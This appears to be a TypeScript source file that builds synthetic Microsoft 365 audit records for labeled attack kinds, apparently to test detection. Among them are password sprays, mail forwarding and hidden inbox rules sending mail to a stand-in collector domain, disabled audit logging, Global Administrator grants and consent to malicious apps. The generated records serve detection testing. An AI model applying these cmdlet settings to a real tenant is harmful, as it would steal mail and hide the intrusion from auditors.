@@ -1,0 +1,268 @@
+/** Attacks as they leave records: mailboxes, identities, apps, mail flow, auditing. Each is one call with its start time. */
+import { cmdlet, type Draw, directoryAct, mailAct, type Raw, signIn, upn } from "./raw-records.ts"
+
+export type Attack = (at: number, draw: Draw) => readonly Raw[]
+
+const ATTACKER = "203.0.113.66"
+const WRONG_PASSWORD = { number: "50126", name: "InvalidUserNameOrPassword" }
+const SECOND = 1_000
+const MINUTE = 60 * SECOND
+
+const times = (count: number): readonly number[] => Array.from({ length: count }, (_, index) => index)
+
+const PEOPLE = ["ana", "bo", "cem", "dora", "eli", "finn", "gita", "hugo", "ines", "jan", "kai", "lou"].map(
+  upn,
+)
+const VICTIM = upn("hugo")
+const ADMIN = upn("admin")
+
+const rule =
+  (parameters: Readonly<Record<string, string>>, name: string): Attack =>
+  (at, draw) => [
+    cmdlet({
+      at,
+      draw,
+      user: VICTIM,
+      cmdlet: "New-InboxRule",
+      object: `${VICTIM}\\${name}`,
+      parameters: { Name: name, ...parameters },
+      ip: ATTACKER,
+    }),
+  ]
+
+const admin =
+  (name: string, object: string, parameters: Readonly<Record<string, string>>): Attack =>
+  (at, draw) => [cmdlet({ at, draw, user: ADMIN, cmdlet: name, object, parameters, ip: ATTACKER })]
+
+const app = "7d1e2f30-4a5b-4c6d-8e7f-901a2b3c4d5e"
+
+const directory =
+  (
+    operation: string,
+    object: string,
+    modified: Readonly<Record<string, readonly [string, string]>>,
+    records = 1,
+  ): Attack =>
+  (at, draw) =>
+    times(records).map(() =>
+      directoryAct({
+        at,
+        draw,
+        user: ADMIN,
+        operation,
+        object,
+        modified,
+        target: [
+          { ID: object, Type: 5 },
+          { ID: draw.guid(), Type: 2 },
+        ],
+      }),
+    )
+
+const permissions = (type: string, scope: string): string =>
+  `[] => [[Id: 4mNc, ClientId: 11111111-2222-4333-8444-555555555555, PrincipalId: , ResourceId: 66666666-2222-4333-8444-555555555555, ConsentType: ${type}, Scope: ${scope}, CreatedDateTime: , LastModifiedDateTime ]]; `
+
+const consent = (adminConsent: boolean, scope: string): Attack =>
+  directory("Consent to application.", app, {
+    "ConsentContext.IsAdminConsent": ["", adminConsent ? "True" : "False"],
+    "ConsentContext.OnBehalfOfAll": ["", adminConsent ? "True" : "False"],
+    "ConsentAction.Permissions": ["", permissions(adminConsent ? "AllPrincipals" : "Principal", scope)],
+    "TargetId.ServicePrincipalNames": ["", app],
+  })
+
+/** Kind → attack. Kinds are the labels. */
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  "password-spray": (at, draw) =>
+    times(3).flatMap((round) =>
+      PEOPLE.map((user, index) =>
+        signIn({
+          at: at + round * 9 * MINUTE + index * 20 * SECOND,
+          draw,
+          user,
+          ip: ATTACKER,
+          error: WRONG_PASSWORD,
+        }),
+      ),
+    ),
+  "slow-spray": (at, draw) =>
+    PEOPLE.map((user, index) =>
+      signIn({ at: at + index * 4 * MINUTE, draw, user, ip: "203.0.113.70", error: WRONG_PASSWORD }),
+    ),
+  "password-guessing": (at, draw) => [
+    ...times(25).map((index) =>
+      signIn({ at: at + index * 15 * SECOND, draw, user: VICTIM, ip: ATTACKER, error: WRONG_PASSWORD }),
+    ),
+    signIn({ at: at + 7 * MINUTE, draw, user: VICTIM, ip: ATTACKER }),
+  ],
+  "mfa-fatigue": (at, draw) =>
+    times(14).map((index) =>
+      signIn({
+        at: at + index * 30 * SECOND,
+        draw,
+        user: upn("gita"),
+        ip: ATTACKER,
+        error: { number: "500121", name: "AuthenticationFailedDuringStrongAuthenticationRequest" },
+      }),
+    ),
+  "forward-address": admin("Set-Mailbox", VICTIM, {
+    ForwardingSmtpAddress: "smtp:hugo.backup@mail-drop.example",
+    DeliverToMailboxAndForward: "False",
+  }),
+  "forward-keeping-copy": admin("Set-Mailbox", upn("ines"), {
+    ForwardingSmtpAddress: "smtp:collector@mail-drop.example",
+    DeliverToMailboxAndForward: "True",
+  }),
+  "rule-forward": rule({ ForwardTo: "smtp:hugo@mail-drop.example", StopProcessingRules: "True" }, "Backup"),
+  "rule-redirect": rule({ RedirectTo: "collector@mail-drop.example" }, "r"),
+  "rule-delete": rule({ SubjectOrBodyContainsWords: "invoice;payment;bank", DeleteMessage: "True" }, "."),
+  "rule-hide": rule({ From: "cfo@fabrikam.example", MoveToFolder: "RSS Feeds", MarkAsRead: "True" }, ",,"),
+  "rule-outlook": (at, draw) => [
+    mailAct({
+      at,
+      draw,
+      user: VICTIM,
+      operation: "UpdateInboxRules",
+      owner: VICTIM,
+      logonType: 0,
+      ip: ATTACKER,
+      more: {
+        RecordType: 2,
+        ClientInfoString: "Client=MSExchangeRPC",
+        OperationProperties: [
+          { Name: "RuleOperation", Value: "AddMailboxRule" },
+          { Name: "RuleId", Value: "-6110000000000000001" },
+          { Name: "RuleState", Value: "Enabled" },
+          { Name: "RuleName", Value: "sync" },
+          {
+            Name: "RuleActions",
+            Value:
+              '[{"ActionType":"Forward","Recipients":["collector@mail-drop.example"],"ForwardFlags":"None"}]',
+          },
+        ],
+      },
+    }),
+  ],
+  "full-access": admin("Add-MailboxPermission", upn("ines"), {
+    User: ADMIN,
+    AccessRights: "FullAccess",
+    AutoMapping: "False",
+  }),
+  "send-as": admin("Add-RecipientPermission", upn("ines"), { Trustee: upn("bo"), AccessRights: "SendAs" }),
+  "folder-for-all": admin("Add-MailboxFolderPermission", `${upn("ines")}:\\Inbox`, {
+    User: "Default",
+    AccessRights: "Reviewer",
+  }),
+  "transport-rule": admin("New-TransportRule", "Journal", {
+    Name: "Journal",
+    BlindCopyTo: "collector@mail-drop.example",
+    SubjectOrBodyContainsWords: "password",
+  }),
+  "audit-off": admin("Set-AdminAuditLogConfig", "Admin Audit Log Settings", {
+    UnifiedAuditLogIngestionEnabled: "False",
+  }),
+  "audit-bypass": admin("Set-MailboxAuditBypassAssociation", ADMIN, { AuditBypassEnabled: "True" }),
+  "exchange-role": admin("New-ManagementRoleAssignment", "Import-admin", {
+    Role: "Mailbox Import Export",
+    User: ADMIN,
+  }),
+  "role-granted": directory(
+    "Add member to role.",
+    upn("bo"),
+    {
+      "Role.ObjectID": ["", "2a3b4c5d-6e7f-4801-9a2b-3c4d5e6f7081"],
+      "Role.DisplayName": ["", "Global Administrator"],
+      "Role.TemplateId": ["", "62e90394-69f5-4237-9190-012177145e10"],
+      "Role.WellKnownObjectName": ["", "TenantAdmins"],
+    },
+    8,
+  ),
+  "consent-user": consent(false, "Mail.Read Mail.Send offline_access"),
+  "consent-admin": consent(true, "Mail.ReadWrite Files.ReadWrite.All"),
+  "app-secret": directory("Update application – Certificates and secrets management ", `Application_${app}`, {
+    KeyDescription: [
+      "[]",
+      '[\r\n  "[KeyIdentifier=0f1e2d3c-4b5a-4968-8776-655443322110,KeyType=Password,KeyUsage=Verify,DisplayName=x]"\r\n]',
+    ],
+    "Included Updated Properties": ["", "KeyDescription"],
+  }),
+  "app-permission": directory(
+    "Add app role assignment to service principal.",
+    "https://graph.microsoft.com",
+    {
+      "AppRole.Value": ["", "Mail.Read"],
+      "AppRole.DisplayName": ["", "Read mail in all mailboxes"],
+      "ServicePrincipal.ObjectID": ["", "2e2e2e2e-3333-4444-8555-666666666666"],
+      "ServicePrincipal.AppId": ["", app],
+    },
+  ),
+  "app-reads-mail": (at, draw) =>
+    times(40).map((index) =>
+      mailAct({
+        at: at + index * 10 * SECOND,
+        draw,
+        user: `ServicePrincipal_${app}`,
+        operation: "MailItemsAccessed",
+        owner: PEOPLE[index % PEOPLE.length] ?? VICTIM,
+        logonType: 1,
+        ip: ATTACKER,
+        more: {
+          UserType: 5,
+          AppId: app,
+          ClientAppId: app,
+          ClientInfoString: "Client=REST;Client=RESTSystem;;",
+          OperationProperties: [
+            { Name: "MailAccessType", Value: "Bind" },
+            { Name: "IsThrottled", Value: "False" },
+          ],
+          OperationCount: 10,
+        },
+      }),
+    ),
+  "mailbox-synced": (at, draw) =>
+    times(5).map((index) =>
+      mailAct({
+        at: at + index * MINUTE,
+        draw,
+        user: VICTIM,
+        operation: "MailItemsAccessed",
+        owner: VICTIM,
+        logonType: 0,
+        ip: ATTACKER,
+        more: {
+          ClientInfoString: "Client=MSExchangeRPC",
+          OperationProperties: [
+            { Name: "MailAccessType", Value: "Sync" },
+            { Name: "IsThrottled", Value: "True" },
+          ],
+          OperationCount: 200,
+        },
+      }),
+    ),
+  "mfa-off": directory("Disable Strong Authentication.", upn("gita"), {
+    StrongAuthenticationRequirement: [
+      '[\r\n  {\r\n    "RelyingParty": "*",\r\n    "State": 1\r\n  }\r\n]',
+      "[]",
+    ],
+  }),
+  "federated-domain": directory("Set domain authentication.", "fabrikam.example", {
+    LiveType: ['[\r\n  "Managed"\r\n]', '[\r\n  "Federated"\r\n]'],
+  }),
+  "search-exported": (at, draw) => [
+    {
+      CreationTime: new Date(at).toISOString().slice(0, 19),
+      Id: draw.guid(),
+      Operation: "SearchExported",
+      OrganizationId: "6f0d2c84-91b7-4a35-8d0e-5b1c7e92f410",
+      RecordType: 24,
+      UserKey: ADMIN,
+      UserType: 0,
+      Version: 1,
+      Workload: "SecurityComplianceCenter",
+      UserId: ADMIN,
+      Case: "",
+      ExchangeLocations: "All",
+      ObjectId: "everything_Export",
+      Query: "",
+    },
+  ],
+}
